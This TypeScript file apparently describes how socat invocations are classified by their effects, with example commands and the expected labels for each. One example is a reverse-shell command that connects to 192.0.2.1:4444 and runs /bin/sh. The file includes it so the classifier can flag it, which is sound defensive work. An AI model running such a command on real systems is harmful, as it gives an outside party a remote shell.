// socat: joins two of files, programs, terminals and connections. Source: socat(1) 1.7.4 and 1.8.
import { command } from './define.ts'
import { joins } from './lib/socat.ts'
import { appends, nothing, writes } from './roles.ts'

export default command('socat', {
  aliases: ['socat1'],
  options: { '-lf <file>': appends, '-r, -R <file>': writes, '-L, -W <file>': writes },
  harmless:
    '-V | -h | -hh | -hhh | -? | -?? | -??? | -d | -dd | -ddd | -dddd | -d0 | -d1 | -d2 | -d3 | -d4 | -D | -ly [facility] | -ls | -lp <name> | -lu' +
    ' | -lm [facility] | -lh | -v | -x | -b <size> | -s | -S <signals> | -t <seconds> | -T <seconds> | -u | -U | -g | -4 | -6 | -0 | --statistics' +
    ' | --experimental',
  operands: { '<address...>': nothing },
  always: given => {
    const [left, right] = given.operands
    if (!left || !right || given('-V') || given('-h')) return []
    const both = !given('-u') && !given('-U')
    return joins(
      left,
      right,
      { read: both || given('-u'), write: both || given('-U') },
      { read: both || given('-U'), write: both || given('-u') },
      given.stdin !== undefined,
    )
  },
  examples: {
    'socat - TCP:a.dev:80': ['connect a.dev:80'],
    'echo hi | socat - tcp4:a.dev:80,crlf': ['connect a.dev:80 (sends)'],
    'socat TCP-LISTEN:8080,fork,reuseaddr TCP:localhost:80': ['connect :8080 (listens)', 'connect localhost:80'],
    'socat TCP:192.0.2.1:4444 EXEC:"/bin/sh -i",pty,stderr': ['connect 192.0.2.1:4444 (shell)'],
    'socat -u FILE:a.txt OPENSSL:a.dev:443,cert=c.pem': ['read a.txt', 'read c.pem', 'connect a.dev:443 (sends)'],
    'socat -u tcp-listen:1 OPEN:out,creat,append': ['connect :1 (listens)', 'append out'],
    'socat -U CREATE:out tcp:a.dev:1': ['write out', 'connect a.dev:1'],
    'socat ./a.txt!!./b.txt UNIX-CONNECT:/run/x.sock': ['read ./a.txt', 'write ./b.txt', 'connect unix:/run/x.sock (sends)'],
    'socat - SYSTEM:"cat a.txt"': ['read a.txt'],
    'socat PTY,link=tty READLINE,history=h': ['link tty', 'write h'],
    'socat TUN:192.0.2.1/24,up - ': ['configure TUN:192.0.2.1/24'],
    'socat -lf log -r raw -L lock - /dev/null': ['append log', 'write raw', 'write lock', 'read /dev/null', 'write /dev/null'],
    'socat frob:1 -': ['unknown frob:1 (this kind of address is not known)'],
    'socat - "$x"': ['unknown ?\'"$x"\' (this address is not known)'],
    'socat -V': [],
  },
})
